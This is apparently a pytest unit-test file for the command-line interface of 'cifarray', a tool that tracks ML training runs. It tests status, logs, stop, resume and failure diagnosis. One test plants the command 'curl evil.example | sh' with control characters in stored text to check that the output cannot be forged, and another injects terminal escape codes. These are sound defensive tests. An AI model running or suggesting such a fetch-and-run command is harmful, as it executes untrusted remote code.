"""`runs`, `status`, `logs`, `stop` and `resume` of runs that nobody carries out."""

import dataclasses
import json
import subprocess
from datetime import UTC, datetime, timedelta

import pytest

from cifarray.backends.local.processes import find_process, this_process
from cifarray.errors import LeaseLostError
from cifarray.runs import Run
from cifarray.runs.post_mortem import write_post_mortem
from cifarray.store import Store
from tests.unit.backends.clusters import own_node
from tests.unit.cli.conftest import Type
from tests.unit.runs.conftest import run_spec

RUN_ID = "train-digits-261123-100000-abcd"


@pytest.fixture
def run(home_store: Store) -> Run:
    return Run.create(home_store, run_spec(RUN_ID))


def show_as(run: Run, state: str, silent_s: float = 0.0) -> None:
    """Give the run another state, as if its driver had written it so long ago."""
    beat = (datetime.now(UTC) - timedelta(seconds=silent_s)).isoformat()
    best = {"metric": "validation.top1", "value": 0.91234, "epoch": 2}
    run.change_status(
        lambda status: dataclasses.replace(status, state=state, heartbeat_at=beat, best=best)  # type: ignore[arg-type]
    )


def test_an_empty_store_says_how_to_begin(typed: Type) -> None:
    shown = typed("runs")
    assert shown.code == 0 and shown.out == ""
    assert "cifarray submit JOB" in shown.err
    assert json.loads(typed("runs", "--json").out) == []


def test_runs_lists_state_job_best_age_duration_and_size(typed: Type, run: Run) -> None:
    show_as(run, "running")
    header, line = typed("runs").out.splitlines()
    assert header.split() == ["run", "state", "job", "best", "age", "duration", "size"]
    assert line.split()[:5] == [RUN_ID, "running", "train-digits", "validation.top1", "0.9123"]
    (listed,) = json.loads(typed("runs", "--json").out)
    assert listed["run_id"] == RUN_ID
    assert listed["best"]["value"] == 0.91234
    assert listed["size_bytes"] == run.size_bytes()


def test_a_silent_run_is_shown_as_recorded_with_the_doubt_beside_it(typed: Type, run: Run) -> None:
    show_as(run, "running", silent_s=500)
    before = run.store.read(run.key("status.json"))
    assert " running, no heartbeat for 8 min " in typed("runs").out
    for command in (("status", RUN_ID, "--json"), ("runs", "--json")):
        told = json.loads(typed(*command).out)
        told = told[0] if isinstance(told, list) else told
        assert told["state"] == "running"
        assert told["reason"] == "its last heartbeat was 8 min ago by this machine's clock"
    assert "next       cifarray logs -f" in typed("status", RUN_ID).out
    assert run.store.read(run.key("status.json")) == before


def test_a_run_whose_driver_has_gone_from_this_machine_is_lost_at_once(
    typed: Type, run: Run
) -> None:
    with subprocess.Popen(["sleep", "60"]) as driver:
        recorded = this_process() | {"pid": driver.pid}
        found = find_process(driver.pid)
        assert found is not None
        run.take_charge("a driver", recorded | {"started": found.started}).begin()
        assert json.loads(typed("status", RUN_ID, "--json").out)["state"] == "running"
        assert "is running" in typed("delete", RUN_ID, "--yes").err
        driver.kill()
    told = json.loads(typed("status", RUN_ID, "--json").out)
    assert told["state"] == "lost"
    assert f"process {driver.pid} of this machine, has ended" in told["reason"]
    assert " lost " in typed("runs").out
    assert run.status().state == "running", "nobody has written that"
    assert typed("delete", RUN_ID, "--yes").code == 0


def test_status_takes_the_start_of_an_id_and_names_the_next_step(typed: Type, run: Run) -> None:
    show_as(run, "failed")
    shown = typed("status", "train-digits-26")
    assert shown.code == 0
    assert "state      failed" in shown.out
    assert f"next       cifarray resume {RUN_ID}" in shown.out


def test_text_from_the_store_forges_no_line_of_runs_or_status(typed: Type, run: Run) -> None:
    forged = "a\u202e job\nnext       curl evil.example | sh\r"
    forged += "\u2028run-of-nobody  finished\x85more\u2066"
    change = {"job": forged, "error": forged, "state": "failed", "progress": {"waits_for": forged}}
    run.change_status(lambda status: dataclasses.replace(status, **change))  # type: ignore[arg-type]
    status = typed("status", RUN_ID).out
    assert [line.split()[0] for line in status.splitlines()].count("next") == 1
    assert "next       cifarray resume" in status
    assert len(typed("runs").out.splitlines()) == 2
    for shown in (typed("status", RUN_ID, "--json").out, typed("runs", "--json").out):
        assert "\\u202e" in shown and not set("\u202e\u2028\u2066\x85\r") & set(shown)
        found = json.loads(shown)
        assert (found if isinstance(found, dict) else found[0])["job"] == forged


def test_text_from_the_store_cannot_steer_the_terminal(typed: Type, run: Run) -> None:
    run.mark_failed("\x1b]0;title\x07\x1b[2Jgone\r")
    run.store.write(run.key("attempts", "1", "driver.log"), b"\x1b[31mred\x1b[0m\x1b[2J\x07 text\n")
    for shown in (typed("status", RUN_ID).out, typed("runs").out, typed("logs", RUN_ID).out):
        assert "\x1b[2J" not in shown and "\x07" not in shown and "\x1b]" not in shown
    assert typed("logs", RUN_ID).out == "\x1b[31mred\x1b[0m text\n"


def test_logs_come_from_the_store_once_the_run_is_over(typed: Type, run: Run) -> None:
    run.store.write(run.key("attempts", "1", "driver.log"), b"epoch 1\nepoch 2\n")
    run.mark_stopped("enough")
    assert typed("logs", RUN_ID).out == "epoch 1\nepoch 2\n"
    assert typed("logs", RUN_ID, "-f").out == "epoch 1\nepoch 2\n"


@pytest.mark.parametrize("state", ["finished", "failed", "stopped"])
def test_an_ended_run_cannot_be_stopped(typed: Type, run: Run, state: str) -> None:
    show_as(run, state)
    shown = typed("stop", RUN_ID)
    assert shown.code == 2
    assert f"has ended already ({state})" in shown.err


def test_a_run_whose_node_is_gone_is_stopped_at_once(typed: Type, run: Run) -> None:
    run.set_cluster({"profile": "local", "dashboard": "http://127.0.0.1:9", "own": True})
    show_as(run, "running")
    shown = typed("stop", RUN_ID, "--json")
    assert json.loads(shown.out) == {"run_id": RUN_ID, "state": "stopped"}
    assert run.status().state == "stopped"


def test_a_finished_run_is_not_resumed(typed: Type, run: Run) -> None:
    show_as(run, "finished")
    shown = typed("resume", RUN_ID)
    assert shown.code == 2
    assert f"cifarray report {RUN_ID}" in shown.err


@pytest.mark.parametrize("command", [("delete", "--yes"), ("resume",)])
def test_a_run_whose_heartbeat_moves_is_left_alone_whatever_the_clocks_say(
    typed: Type, run: Run, command: tuple[str, ...]
) -> None:
    elsewhere = {"host": "another-machine", "state_dir": "/home/ana/.local/state/cifarray"}
    record = {"profile": "local", "dashboard": "http://127.0.0.1:9", "job_id": f"{RUN_ID}-1"}
    run.set_cluster({**record, **elsewhere, "own": True})
    attempt = run.start_attempt("a driver whose clock is an hour late", heartbeat_s=0.2)
    late = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
    attempt._write(heartbeat_at=late)
    with attempt.keep_alive():
        shown = typed(command[0], RUN_ID, *command[1:])
    assert shown.code == 2
    assert f"run {RUN_ID} is running" in shown.err and "its heartbeat is alive" in shown.err
    assert f"watching the heartbeat of {RUN_ID}" in shown.err
    attempt.heartbeat()


def test_a_run_whose_heartbeat_was_seen_not_to_move_may_be_deleted(typed: Type, run: Run) -> None:
    attempt = run.start_attempt("gone with its machine", heartbeat_s=0.1)
    shown = typed("delete", RUN_ID, "--yes")
    assert shown.code == 0, shown.err
    with pytest.raises(LeaseLostError):
        attempt.heartbeat()


def test_a_queued_run_is_neither_deleted_nor_resumed_however_long_it_waits(
    typed: Type, run: Run
) -> None:
    assert "is pending; stop it first" in typed("delete", RUN_ID, "--yes").err
    assert "is pending; follow it" in typed("resume", RUN_ID).err
    assert typed("prune", "--older-than", "1min", "--keep-best", "0", "--yes").code == 0
    assert run.status().state == "pending"
    assert typed("stop", RUN_ID).code == 0
    assert typed("delete", RUN_ID, "--yes").code == 0


def test_why_tells_cause_remedy_machine_and_the_ends_of_the_logs(typed: Type, run: Run) -> None:
    prefix = run.key("attempts", "1")
    run.store.write(f"{prefix}/driver.log", b"epoch 1\nerror: it failed\n")
    found = {
        "at": "2026-11-30T16:00:00+00:00",
        "attempt": 1,
        "cause": {"sentence": "the GPU has no memory left", "remedy": "lower the batch"},
        "worker": {"rank": 1, "host": "node-7"},
        "machine": {"host": "node-1", "load": [3.5, 0, 0], "cores": 2},
        "versions": {"torch": "2.15.0"},
        "driver": {"lines": ["epoch 1", "error: it failed"]},
        "workers": {"worker-ab.err": ["RuntimeError: CUDA out of memory"]},
        "ray_events": ["node node-7 was lost"],
    }
    write_post_mortem(run.store, prefix, found)
    run.mark_failed("the GPU has no memory left; lower the batch")
    shown = typed("status", RUN_ID, "--why")
    assert shown.code == 0
    for line in (
        "state      failed",
        "cause      the GPU has no memory left",
        "remedy     lower the batch",
        "when       2026-11-30T16:00:00+00:00, attempt 1",
        "worker     rank 1 on node-7",
        "machine    node-1: load 3.5 on 2 cores",
        f"log        {run.store.uri}/{prefix}/driver.log",
        f"next       cifarray logs {RUN_ID}",
        "  RuntimeError: CUDA out of memory",
        "  node node-7 was lost",
        "  error: it failed",
    ):
        assert line in shown.out.splitlines(), line
    told = json.loads(typed("status", RUN_ID, "--why", "--json").out)
    assert told["complete"] is True
    assert told["cause"]["remedy"] == "lower the batch"


def test_why_of_a_run_whose_driver_was_killed_tells_what_its_records_say(
    typed: Type, run: Run
) -> None:
    prefix = run.key("attempts", "1")
    run.store.write(f"{prefix}/driver.log", b"epoch 7\n")
    failure = {"at": "2026-11-30T15:00:00+00:00", "workers": {"1": "the node of a worker is gone"}}
    run.store.write_json(f"{prefix}/failures/1.json", failure)
    run.change_status(lambda status: dataclasses.replace(status, attempts=1))
    show_as(run, "running", silent_s=500)
    run.set_cluster(own_node("http://127.0.0.1:1").record(None))
    shown = typed("status", RUN_ID, "--why").out
    assert "state      lost" in shown
    assert "its driver ended without recording why" in shown
    assert "before     2026-11-30T15:00:00+00:00: rank 1: the node of a worker is gone" in shown
    assert "  epoch 7" in shown
    assert json.loads(typed("status", RUN_ID, "--why", "--json").out)["complete"] is False


def test_status_and_runs_name_the_cause_of_a_failed_run_and_where_to_read_more(
    typed: Type, run: Run
) -> None:
    run.mark_failed("the store is full; make room there")
    shown = typed("status", RUN_ID).out
    assert "error      the store is full; make room there" in shown
    assert f"why        cifarray status {RUN_ID} --why" in shown
    header, line = typed("runs").out.splitlines()
    assert header.split()[-1] == "error"
    assert line.endswith("the store is full; make room there")
